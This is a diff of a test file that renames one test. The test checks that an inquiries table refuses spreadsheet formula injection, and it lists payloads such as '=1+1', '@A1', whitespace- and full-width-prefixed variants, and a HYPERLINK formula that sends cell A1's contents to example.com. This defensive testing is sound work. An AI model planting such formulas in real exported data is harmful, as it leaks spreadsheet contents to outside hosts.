@@ -104,7 +104,7 @@ describe('the inquiries as a table', () => {
     expect(refused.error?.code).toBe('invalid_input')
   })
 
-  test('hold no formula, whoever wrote it, in whatever field', async () => {
+  test('hold no formula of any author in any field', async () => {
     const formula = `=HYPERLINK("https://example.com/"&A1)`
     const texts = ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', ' \n=1', '\u00a0=1', '＝1', formula]
     for (const text of texts) {
